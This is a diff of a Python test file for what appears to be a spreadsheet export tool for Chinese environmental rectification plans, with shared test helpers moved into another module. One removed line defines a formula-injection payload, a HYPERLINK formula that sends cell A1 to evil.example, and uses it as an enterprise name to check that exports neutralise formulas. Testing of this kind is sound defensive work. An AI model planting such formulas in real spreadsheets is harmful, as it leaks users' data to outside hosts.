@@ -18,66 +18,13 @@ import openpyxl
 
 sys.path.insert(0, os.path.join(os.path.dirname(__file__), "..", "lib"))
 from dabiao_it import Store, check, done, eq  # noqa: E402
-
-
-def credit_code(first17):
-    """GB 32100-2015: the check character over the first 17 (weights 3^i mod 31)."""
-    chars = "0123456789ABCDEFGHJKLMNPQRTUWXY"
-    s = sum(chars.index(c) * pow(3, i, 31) for i, c in enumerate(first17))
-    return first17 + chars[(31 - s % 31) % 31]
+from spreadsheet_it import EVIL, PLAN, credit_code, registry  # noqa: E402
 
 
 # a valid code of digits only (its check character a digit too)
 CODE = next(c for c in (credit_code(f"91652301{k:09d}") for k in range(123456700, 123457700))
             if c.isdigit())
-PLAN = """\
-plan: ss
-title: 表格测试
-timezone: Asia/Shanghai
-issuer: {name: 某某市生态环境局}
-roles:
-  county: {title: 县环保局, per: jurisdiction}
-  ent: {title: 企业, per: enterprise}
-lifecycles:
-  fix:
-    initial: listed
-    states: [listed, fixing, done, overdue]
-    final: [done]
-    events:
-      start: {listed: fixing}
-      verify: {fixing: done, overdue: done}
-    deadline: {from: [listed, fixing], to: overdue}
-phases:
-  - id: p
-    title: 阶段
-    milestones:
-      - id: rectification
-        title: 限期整改
-        owner: ent
-        for: each enterprise
-        where: {listed: true}
-        due: {field: rectify_by}
-        lifecycle: fix
-"""
-EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
-REG = f"""\
-jurisdictions:
-  - {{id: a, name: 甲县, kind: county, email: [a@x.example]}}
-enterprises:
-  - id: '{CODE}'
-    name: '{EVIL.replace("'", "''")}'
-    jurisdiction: a
-    industry: steel
-    listed: true
-    measure: closure
-    rectify_by: 2017-06-30
-    responsible_unit: '000123'
-    responsible_person: '2017年6月'
-    email: [e@x.example]
-    attrs: {{pollutants: 'TRUE', reason: '12%'}}
-offices:
-  admin: [admin@x.example]
-"""
+REG = registry(CODE, EVIL, "000123", "2017年6月", "TRUE", "12%")
 FORMULA = re.compile(r'^="(?:[^"]|"")*"$')   # a string constant, nothing else
 
 st = Store()
